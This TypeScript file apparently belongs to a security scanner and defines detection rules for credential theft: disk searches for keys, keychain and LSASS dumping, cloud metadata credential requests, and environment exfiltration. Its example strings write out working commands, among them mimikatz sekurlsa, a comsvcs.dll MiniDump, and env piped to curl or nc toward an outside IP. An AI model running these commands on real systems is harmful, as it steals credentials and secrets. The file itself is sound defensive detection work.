/**
 * Rules for commands and addresses that give credentials away: searches over the disk, keychains and
 * secret managers, memory dumps, instance metadata, the environment sent over the network.
 *
 * Paths of the files themselves are the matter of credential_file_rules.
 */
import type { Direction, Rule, RuleMatch, Verdict } from "../scan/rule.ts";
import { gradePath } from "./path_context.ts";

const BOTH: readonly Direction[] = ["outbound", "inbound"];

/** Every rule about reading credentials by a command or a request. */
export const CREDENTIAL_READ_RULES: readonly Rule[] = [
  {
    id: "credential_search",
    pattern: "credential_read",
    type: "EXFIL",
    severity: "high",
    directions: BOTH,
    anchors: [
      "find ",
      "grep -",
      "findstr ",
      "reg query ",
      "locate id_rsa",
      "locate .env",
      "locate shadow",
    ],
    regexp:
      /\bfind [^\r\n;|]{1,100}?-i?name \\{0,2}["']?(?:\*?id_(?:rsa|dsa|ecdsa|ed25519)\*?|\*\.(?:pem|key|ppk|kdbx|p12|pfx|jks|keystore|ovpn)|\.env\*?|\*?\.env|\*?(?:credentials?|secrets?|password|passwd|accessTokens|msal_token_cache|access_tokens|\.htpasswd|\.netrc|\.pgpass|\.npmrc|\.git-credentials|wallet\.dat|\.gnupg|authorized_keys|known_hosts|shadow)[\w.*-]{0,20})|\bgrep (?:-\w{1,8} ){0,3}(?:-\w{0,6}[rR]\w{0,6}|--recursive|--include\S{1,30})\b[^\r\n;|]{0,60}(?:password|passwd|secret|api_?key|token|PRIVATE KEY|AKIA)[^\r\n;|]{0,60}\s(?:\/|~)[\w\/.]{0,40}|\bfindstr [^\r\n]{0,40}\/[sS][^\r\n]{0,60}(?:password|passwd|secret)|\breg query [^\r\n]{0,60}\/f password|\blocate (?:id_rsa|\.env|shadow)\b/i,
    maxLength: 320,
    verify: (match) => /id_|PRIVATE|shadow/.test(match.text) ? "high" : "medium",
    description: "A search over the disk for keys and passwords.",
    source: "find(1), grep(1); MITRE ATT&CK T1552.001, T1552.004, T1083",
    examples: [
      "find / -name id_rsa 2>/dev/null",
      'find //.azure -name "msal_token_cache.json"',
      "grep -ri password /etc /home",
      "findstr /si password *.xml",
    ],
    nonExamples: ["find . -name '*.ts'", "grep -rn TODO src", "find path -iname '*lib*'"],
  },
  {
    id: "credential_store_command",
    pattern: "credential_read",
    type: "EXFIL",
    severity: "high",
    directions: BOTH,
    anchors: [
      "dump-keychain",
      "find-generic-password",
      "find-internet-password",
      "unlock-keychain",
      "sekurlsa::",
      "lsadump::",
      "mimikatz",
      "cmdkey /list",
      "vaultcmd /list",
      "comsvcs.dll",
      "procdump",
      "rdrleakdiag",
      "createdump",
      "out-minidump",
      "invoke-mimikatz",
      "secretsdump.py",
      "lazagne",
      "secret-tool ",
      "--export-secret-key",
      "kubectl get secret",
    ],
    regexp:
      /(?<=\bsecurity (?:-\w )?)(?:dump-keychain|find-(?:generic|internet)-password|unlock-keychain)\b[^\r\n;|&]{0,80}|\b(?:sekurlsa|lsadump)::\w{2,20}|\bInvoke-Mimikatz\b|\bmimikatz(?:\.exe)?\s["'\w]|\bcmdkey \/list|\bvaultcmd \/list|\bcomsvcs\.dll[ ,]{1,3}\W{0,2}MiniDump|\b(?:procdump|rdrleakdiag|createdump|Out-Minidump)[^\r\n]{0,60}\blsass\b|\bsecretsdump\.py\s|\blazagne(?:\.exe|\.py)? (?:all|browsers)|\bsecret-tool (?:search|lookup)\b|(?<=\bgpg2? [^\r\n;|&]{0,40})--export-secret-keys?\b[^\r\n;|&]{0,40}|\bkubectl get secrets? [^\r\n;|&]{0,60}-o ?(?:yaml|json)/i,
    maxLength: 180,
    description: "A command that reads a keychain, a credential manager, or a secret key.",
    source: "security(1), gpg(1), secret-tool(1); MITRE ATT&CK T1555.001, T1555.004, T1003.001",
    examples: [
      "sudo security dump-keychain -d login.keychain",
      "security find-generic-password -wa 'Chrome'",
      "mimikatz sekurlsa::logonpasswords",
      "rundll32 comsvcs.dll, MiniDump 624 C:\\x.dmp full",
    ],
    nonExamples: ["security find-certificate -a", "lsass is a process", "gpg --export KEY"],
  },
  {
    id: "cloud_metadata",
    pattern: "cloud_metadata",
    type: "EXFIL",
    severity: "high",
    directions: BOTH,
    anchors: [
      "169.254.169.254",
      "metadata.google.internal",
      "100.100.100.200",
      "169.254.170.2",
      "fd00:ec2::254",
      "0xa9fea9fe",
      "2852039166",
      "169.254.169.253",
      "metadata.azure.internal",
      "0251.0376.0251.0376",
    ],
    regexp:
      /(?:169\.254\.(?:169\.254|170\.2)\]?|metadata\.google\.internal|metadata\.azure\.internal|100\.100\.100\.200|fd00:ec2::254\]?|0x[aA]9[fF][eE][aA]9[fF][eE]|2852039166|0251\.0376\.0251\.0376)(?::\d{1,5})?(?:\/[\w.\/?=&%$*{}-]{0,160})?(?![\d.]{0,3}\d)/,
    maxLength: 240,
    verify: gradeMetadata,
    description: "The address where a cloud machine reads its own credentials.",
    source: "AWS EC2 IMDS, Google Compute metadata server, Azure IMDS, ECS task roles; T1552.005",
    examples: [
      "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
      "GET http://169.254.170.2/v2/credentials/x",
    ],
    nonExamples: ["169.254.1.1", "1169.254.169.2540", "fe80::1"],
  },
  {
    id: "environment_dump",
    pattern: "credential_read",
    type: "EXFIL",
    severity: "high",
    directions: BOTH,
    anchors: [
      "printenv |",
      "printenv|",
      "curl ",
      "requests.post(",
      "urlopen(",
      "fetch(",
      "axios.post(",
      "http.post(",
      "env |",
      "env|",
      "set |",
      "set|",
      "export -p",
      "$(env",
      "$(printenv",
      "`env",
      "`printenv",
      "json.stringify(process.env)",
      "dict(os.environ)",
    ],
    regexp:
      /(?<![\w.-])(?:printenv|env|export -p|set) ?\| ?(?:(?:base64|gzip|xxd|sort|grep\s[^\r\n|]{1,40}|jq\s[^\r\n|]{1,20})(?:\s-\w{1,4}){0,2} ?\| ?){0,2}(?:curl|wget|nc|ncat|openssl)\b[^\r\n]{0,100}|\bcurl\b[^\r\n]{0,120}(?:\$\(|`)(?:printenv|env)\b|(?:requests\.post|urlopen|fetch|axios\.post|http\.post)\([^\r\n]{1,120}?(?:JSON\.stringify\(process\.env\)|dict\(os\.environ\))/,
    maxLength: 320,
    description: "The whole environment sent over the network.",
    source: "env(1), printenv(1); MITRE ATT&CK T1082, T1048",
    examples: [
      "env | curl -d @- http://10.0.0.1",
      "printenv | base64 -w0 | nc 10.0.0.1 80",
      "curl http://x/?d=$(env | base64)",
    ],
    nonExamples: ["env | grep PATH", "printenv HOME", "env | sort"],
  },
];

/** The role's credentials are worth more than the address: libraries name the address often. */
function gradeMetadata(match: RuleMatch): Verdict {
  const credentials =
    /security-credentials|\/token|identity\/oauth2|\/credentials|user-data|service-accounts|ram\/|attributes\/|api\/token/i
      .test(match.text);
  const grade = gradePath(match, { used: "high", mentioned: "low" });
  if (credentials) {
    return /(?:^|[\s"'`(=])(?:https?:\/\/)?\[?(?:::ffff:)?$/.test(match.before) ? "high" : grade;
  }
  return /\b(?:curl|wget|fetch|iwr|irm|http|get|request\w*)\b[^\n]{0,50}$/i.test(match.before) ||
      /^\s*(?:https?:\/\/)?\[?$/.test(match.before) || /(?:^|\n)host: ?$/i.test(match.before) ||
      /\burl\W{1,6}(?:https?:\/\/)?$/i.test(match.before)
    ? "medium"
    : "low";
}
